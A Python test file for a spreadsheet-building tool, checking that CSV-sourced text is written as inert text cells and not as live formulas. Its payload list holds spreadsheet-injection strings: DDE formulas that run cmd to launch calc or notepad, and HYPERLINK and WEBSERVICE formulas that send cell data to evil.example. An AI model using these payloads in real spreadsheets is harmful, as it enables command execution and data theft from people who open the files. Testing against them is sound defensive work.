"""Text from the CSVs never becomes a formula, a hyperlink or a DDE call.

A folder whose company names, sources and even folder name are spreadsheet-injection
payloads (``=``, ``+``, ``-``, ``@``, tab and CR first, DDE, ``HYPERLINK``, ``WEBSERVICE``,
bare URLs, XML metacharacters, text past Excel's 32,767-character cell limit) is built, and
the workbook is read back three ways: its raw XML, openpyxl, and LibreOffice's
recalculation of it. The formulas must be exactly those of the same folder with harmless
text, and every payload must sit in a cell (or a comment) as text.

Tickers and asset classes cannot carry such text: validation allows only letters, digits,
``.``, ``-`` and ``_`` (tested here too). Sheet names and defined names are not made from
CSV text at all (the sheets are the template's; the only defined names are print titles).
"""

from __future__ import annotations

import csv
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest

from modelgen.build import build
from modelgen.engine.verify import compare
from modelgen.inputs.csvread import InputError
from tests.engine import engine, recalc_many

EXCEL_CELL_LIMIT = 32_767
DDE = "=cmd|' /C calc'!A0"
PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=2+2",  # leading tab and CR: the reader strips them, leaving "=..." to be written
    "\r=3+3",
    " \t\r\n=4+4",
    DDE,
    "@cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    '=HYPERLINK("http://evil.example/steal?d="&A1,"Click for details")',
    '=WEBSERVICE("http://evil.example/"&B2)',
    "http://evil.example/a-bare-url",
    "mailto:someone@evil.example",
    "inner =1+1 and\ta tab and\ra CR",
    '<f>SUM(A1)</f>&amp;"</t></si>',
    "x" * 40_000,  # more than a cell holds
]
SAFE_NAME = "Company {i}"
SAFE_SOURCE = "annual report"
HOSTILE_FOLDER = "=cmd|' -C calc'!A0"  # the folder name is shown on the Cover


def write_folder(folder: Path, names: list[str], sources: list[str]) -> Path:
    """One company per name; every row's source is taken from `sources` in turn."""
    folder.mkdir(parents=True)
    tickers = [f"H{i}" for i in range(len(names))]

    def table(name: str, header: list[str], rows: list[list[object]]) -> None:
        with open(folder / name, "w", encoding="utf-8", newline="") as f:
            writer = csv.writer(f)
            writer.writerow(header)
            writer.writerows(rows)

    table(
        "companies.csv",
        ["ticker", "name", "fiscal_year_end_month"],
        [[t, n, 12] for t, n in zip(tickers, names, strict=True)],
    )
    table(
        "capex.csv",
        ["ticker", "period", "capex", "source"],
        [
            [t, 2022 + y, 10 + i + y, sources[(i + y) % len(sources)]]
            for i, t in enumerate(tickers)
            for y in range(3)
        ],
    )
    table(
        "financials.csv",
        ["ticker", "period", "net_income", "source"],
        [[t, 2024, 100 + i, sources[-1 - i % len(sources)]] for i, t in enumerate(tickers)],
    )
    table(
        "guidance.csv",
        ["ticker", "period", "capex_low", "capex_high", "source"],
        [[t, 2025, 20, "", sources[i % len(sources)]] for i, t in enumerate(tickers)],
    )
    table(
        "assumptions.csv",
        ["ticker", "asset_class", "share", "useful_life_years"],
        [["*", "servers", 0.6, 5.5], ["*", "buildings", 0.4, 25]],
    )
    table("settings.csv", ["key", "value"], [["forecast_years", 3]])
    return folder


def as_read(text: str) -> str:
    """The text as modelgen reads it (fields are stripped) and as a cell can hold it."""
    return text.strip()[:EXCEL_CELL_LIMIT]


def xml_escaped(text: str) -> str:
    """Control characters as xlsxwriter writes them into a string (_xHHHH_), as openpyxl
    returns them."""
    return re.sub(r"[\x00-\x08\x0b-\x1f]", lambda m: f"_x{ord(m.group()):04X}_", text)


@pytest.fixture(scope="module")
def books(tmp_path_factory) -> dict[str, Path]:
    root = tmp_path_factory.mktemp("hostile")
    hostile = write_folder(root / HOSTILE_FOLDER, PAYLOADS, PAYLOADS)
    plain = write_folder(
        root / "plain", [SAFE_NAME.format(i=i) for i in range(len(PAYLOADS))], [SAFE_SOURCE]
    )
    return {
        "hostile": build(hostile, root / "hostile.xlsx").out,
        "plain": build(plain, root / "plain.xlsx").out,
    }


def _parts(path: Path) -> dict[str, str]:
    with zipfile.ZipFile(path) as zf:
        return {n: zf.read(n).decode("utf-8") for n in zf.namelist()}


_CELL = re.compile(r'<c r="([A-Z]+[0-9]+)"[^>]*?(?:/>|>(.*?)</c>)', re.S)
_FORMULA = re.compile(r"<f(?:\s[^>]*)?>(.*?)</f>|<f(?:\s[^>]*)?/>", re.S)


def formulas_by_cell(path: Path) -> dict[tuple[str, str], str]:
    """Every <f> element in the sheet XML: {(sheet part, cell): formula text}."""
    out = {}
    for name, xml in _parts(path).items():
        if not name.startswith("xl/worksheets/sheet"):
            continue
        for ref, body in _CELL.findall(xml):
            f = _FORMULA.search(body or "")
            if f:
                out[(name, ref)] = f.group(1) or ""
    return out


def test_the_formulas_are_exactly_those_of_harmless_text(books):
    """No payload added, removed or changed a formula: cell for cell, the <f> elements of
    the hostile workbook equal those of the same folder with plain names and sources."""
    hostile, plain = formulas_by_cell(books["hostile"]), formulas_by_cell(books["plain"])
    assert len(hostile) > 1000
    assert hostile == plain
    for text in hostile.values():
        for marker in ("cmd", "HYPERLINK", "WEBSERVICE", "DDE", "evil", "mailto"):
            assert marker not in text


_CHART_FORMULA = re.compile(r"<c:f>(.*?)</c:f>", re.S)


def chart_formulas(path: Path) -> dict[str, list[str]]:
    """Every formula reference in the charts (series names, categories, values), by part."""
    return {
        name: _CHART_FORMULA.findall(xml)
        for name, xml in _parts(path).items()
        if name.startswith("xl/charts/")
    }


def test_chart_references_are_exactly_those_of_harmless_text(books):
    """A chart series named after a company must show the name as text (or point at the
    cell holding it): xlsxwriter reads a series name starting with "=" as a formula, which
    would put `cmd|' /C calc'!A0` in the chart as a live reference."""
    hostile, plain = chart_formulas(books["hostile"]), chart_formulas(books["plain"])
    for part, refs in hostile.items():
        for ref in refs:
            assert not any(m in ref for m in ("cmd", "HYPERLINK", "WEBSERVICE", "evil", "+1")), (
                part,
                ref,
            )
    assert hostile == plain


def test_no_link_no_external_part_no_dde_anywhere_in_the_package(books):
    parts = _parts(books["hostile"])
    assert not [n for n in parts if "externalLink" in n or "connections" in n]
    for name, xml in parts.items():
        assert 'TargetMode="External"' not in xml, name
        assert "ddeLink" not in xml and "oleLink" not in xml, name
        if name.startswith("xl/worksheets/sheet"):
            for link in re.findall(r"<hyperlink\b[^>]*>", xml):
                # only the Cover's links to the workbook's own sheets: a location, no target
                assert "r:id=" not in link and re.search(r'location="', link), link
    workbook = parts["xl/workbook.xml"]
    sheets = re.findall(r'<sheet name="([^"]*)"', workbook)
    plain = re.findall(r'<sheet name="([^"]*)"', _parts(books["plain"])["xl/workbook.xml"])
    assert sheets == plain and sheets[0] == "Cover"  # no sheet is named from CSV text
    for defined in re.findall(r"<definedName\b[^>]*>(.*?)</definedName>", workbook, re.S):
        assert not any(m in defined for m in ("cmd", "HYPERLINK", "evil", "=")), defined


def test_every_payload_is_a_text_cell_and_every_cell_with_one_is_text(books):
    wb = openpyxl.load_workbook(books["hostile"])
    strings = []
    for ws in wb.worksheets:
        assert not ws._hyperlinks or ws.title == "Cover"
        for link in ws._hyperlinks:
            assert link.target is None and link.location, link
        for row in ws.iter_rows():
            for cell in row:
                if not isinstance(cell.value, str):
                    continue
                if cell.data_type == "f":
                    assert not any(
                        m in cell.value for m in ("cmd", "HYPERLINK", "evil", "mailto", "1+1")
                    ), f"{ws.title}!{cell.coordinate} is a formula: {cell.value[:80]}"
                else:
                    assert cell.data_type == "s", (ws.title, cell.coordinate, cell.data_type)
                    strings.append(cell.value)
    for payload in PAYLOADS:
        want = xml_escaped(as_read(payload))
        assert any(s == want for s in strings) or any(want in s for s in strings), payload[:60]
    assert xml_escaped(as_read(PAYLOADS[-1])) in strings  # the long one, cut at the limit


def test_sources_are_comments_holding_the_text(books):
    wb = openpyxl.load_workbook(books["hostile"])
    notes = [c.comment.text for row in wb["Inputs"].iter_rows() for c in row if c.comment]
    assert notes
    joined = "\n".join(notes)
    for payload in PAYLOADS:
        assert xml_escaped(as_read(payload))[:1000] in joined, payload[:60]
    cover = [c.value for row in wb["Cover"].iter_rows() for c in row if isinstance(c.value, str)]
    assert HOSTILE_FOLDER in cover


@engine
def test_libreoffice_keeps_them_text_and_agrees_with_every_formula(books, tmp_path):
    """A real engine loads the file: the payloads stay text, nothing is evaluated from them."""
    hostile = books["hostile"]
    (recalculated,) = recalc_many([hostile], tmp_path)
    report = compare(hostile, recalculated)
    assert report.ok and report.formula_cells > 1000, report.lines()
    original = openpyxl.load_workbook(hostile)
    engine_view = openpyxl.load_workbook(recalculated)
    checked = 0
    for ws in original.worksheets:
        for row in ws.iter_rows(max_col=2):
            for cell in row:
                value = cell.value
                if not isinstance(value, str) or cell.data_type != "s" or "_x00" in value:
                    continue  # (control characters, escaped as _xHHHH_, LibreOffice decodes)
                if not any(as_read(p)[:20] in value for p in PAYLOADS if "\r" not in p):
                    continue
                again = engine_view[ws.title][cell.coordinate]
                assert again.data_type == "s" and again.value == value, (
                    ws.title,
                    cell.coordinate,
                    again.value,
                )
                checked += 1
    assert checked > 100


@pytest.mark.parametrize(
    "file, column, value",
    [
        ("companies.csv", "ticker", "=1+1"),
        ("companies.csv", "ticker", "@SUM"),
        ("companies.csv", "ticker", "A:B"),
        ("companies.csv", "ticker", "A[1]"),
        ("assumptions.csv", "asset_class", DDE),
        ("assumptions.csv", "asset_class", "+servers"),
        ("assumptions.csv", "asset_class", "servers/racks"),
        ("assumptions.csv", "asset_class", "x" * 32),
    ],
)
def test_tickers_and_asset_classes_cannot_carry_such_text(tmp_path, file, column, value):
    folder = write_folder(tmp_path / "in", ["Alpha"], [SAFE_SOURCE])
    path = folder / file
    text = path.read_text(encoding="utf-8")
    old = "H0" if column == "ticker" else "servers"
    path.write_text(text.replace(old, f'"{value}"' if "," in value else value, 1), "utf-8")
    with pytest.raises(InputError) as exc:
        build(folder, tmp_path / "out.xlsx")
    assert any(p.file == file and p.column == column for p in exc.value.problems)
    assert not (tmp_path / "out.xlsx").exists()
